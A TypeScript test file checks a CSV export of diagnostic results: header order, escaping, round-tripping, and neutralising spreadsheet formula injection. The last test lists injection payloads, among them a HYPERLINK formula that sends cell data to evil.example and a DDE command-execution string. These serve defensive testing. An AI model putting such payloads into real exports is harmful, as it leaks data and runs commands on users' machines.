import { parse } from 'csv-parse/sync';
import t from 'tap';
import type { Diagnostic, DiagnosticOutput } from '../../../../generated/snapshots/types.gen.ts';
import { CSV_COLUMNS, diagnosticsCsv } from './csv.ts';
import { realisticOutput } from './test-outputs.ts';
import { JSON_TYPE, responseExamples } from './test-spec-examples.ts';

const strict = (csv: string): string[][] => parse(csv, { relax_column_count: false, relax_quotes: false, bom: false });
const records = (csv: string): Record<string, string>[] => parse(csv, { columns: true, relax_quotes: false });

const hitsExample = responseExamples().find((e) => e.schema === 'DiagnosticOutput' && e.name === 'hits')!;

const withDiagnostics = (diagnostic: Diagnostic[]): DiagnosticOutput => ({
  diagnostics: {
    filter: 'all',
    hit_count: diagnostic.filter((d) => d.run_data.match).length,
    miss_count: diagnostic.filter((d) => !d.run_data.match).length,
    diagnostic,
  },
  system_information: { hostname: 'h', chassis_serial: 's', platform: 'p' },
  version: '2026.11.1',
});
const diagnostic = (fields: Partial<Diagnostic['results']> & { name?: string } = {}): Diagnostic => ({
  name: fields.name ?? 'rule-1',
  output: [],
  run_data: { h_importance: 'high', match: true },
  results: { h_action: 'act', h_name: 'rule-1', h_header: 'head', h_summary: 'sum', h_sols: [], h_cve_ids: [], ...fields },
});

t.test("the spec's CSV example is what diagnosticsCsv makes of the JSON example of the same name", async (t) => {
  const csv = diagnosticsCsv(hitsExample.byType[JSON_TYPE] as DiagnosticOutput);
  t.same(strict(csv), strict(hitsExample.byType['text/csv'] as string));
  t.match(csv, /^name,h_importance,match,h_header,h_summary,h_action,h_sols,h_cve_ids\r\n/, 'the header row first, CRLF line ends');
});

t.test('one row per listed diagnostic, lists joined with spaces, match as true or false', async (t) => {
  const output = realisticOutput('all');
  const rows = records(diagnosticsCsv(output));
  t.equal(rows.length, output.diagnostics.diagnostic.length);
  t.same(Object.keys(rows[0]!), [...CSV_COLUMNS]);
  for (const [i, d] of output.diagnostics.diagnostic.entries()) {
    t.same(rows[i], {
      name: d.name,
      h_importance: d.run_data.h_importance,
      match: String(d.run_data.match),
      h_header: d.results.h_header,
      h_summary: d.results.h_summary,
      h_action: d.results.h_action,
      h_sols: d.results.h_sols.join(' '),
      h_cve_ids: d.results.h_cve_ids.join(' '),
    });
  }
  t.same(
    strict(diagnosticsCsv(realisticOutput('hit'))).length,
    1 + realisticOutput('all').diagnostics.hit_count,
    'set=hit: the header and the hits',
  );
});

t.test('no diagnostics: the header row alone', async (t) => {
  t.equal(diagnosticsCsv(withDiagnostics([])), `${CSV_COLUMNS.join(',')}\r\n`);
});

t.test('quotes, commas, line breaks and non-ASCII text round-trip through a CSV parser', async (t) => {
  const tricky = [
    'plain',
    'a, b, c',
    'she said "stop", twice',
    '"quoted at both ends"',
    'line one\nline two',
    'windows\r\nline',
    '  leading and trailing spaces  ',
    'Größe ✓ 日本 😀',
    '',
    'semi;colon|pipe',
  ];
  const rows = tricky.map((value, i) => diagnostic({ name: `rule-${i}`, h_header: value, h_summary: value, h_action: value }));
  const parsed = records(diagnosticsCsv(withDiagnostics(rows)));
  t.same(
    parsed.map((r) => r.h_header),
    tricky,
  );
  t.same(
    parsed.map((r) => r.h_summary),
    tricky,
  );
  t.same(
    parsed.map((r) => r.name),
    tricky.map((_, i) => `rule-${i}`),
  );
});

t.test('a cell that a spreadsheet would run as a formula starts with a quote (OWASP CSV injection)', async (t) => {
  const formulas = [
    '=1+2',
    '+1+2',
    '-2+3',
    '@SUM(A1:A2)',
    '\t=cmd',
    '\r=cmd',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
  ];
  const rows = formulas.map((value) =>
    diagnostic({
      name: value,
      h_header: value,
      h_summary: value,
      h_action: value,
      h_sols: [value, 'https://ok.example/kb'],
      h_cve_ids: [value],
    }),
  );
  const parsed = records(diagnosticsCsv(withDiagnostics(rows)));
  for (const [i, value] of formulas.entries()) {
    for (const column of ['name', 'h_header', 'h_summary', 'h_action'] as const)
      t.equal(parsed[i]![column], `'${value}`, `${column}: ${JSON.stringify(value)}`);
    t.equal(parsed[i]!.h_sols, `'${value} https://ok.example/kb`, 'a joined list starting with a formula');
    t.equal(parsed[i]!.h_cve_ids, `'${value}`);
  }
  const harmless = ['a=b', 'x+1', 'e-mail', 'user@example.com', ' =not at the start', '42', "'already quoted"];
  const safe = records(diagnosticsCsv(withDiagnostics(harmless.map((value) => diagnostic({ h_header: value })))));
  t.same(
    safe.map((r) => r.h_header),
    harmless,
    'other cells are left as they are',
  );
});
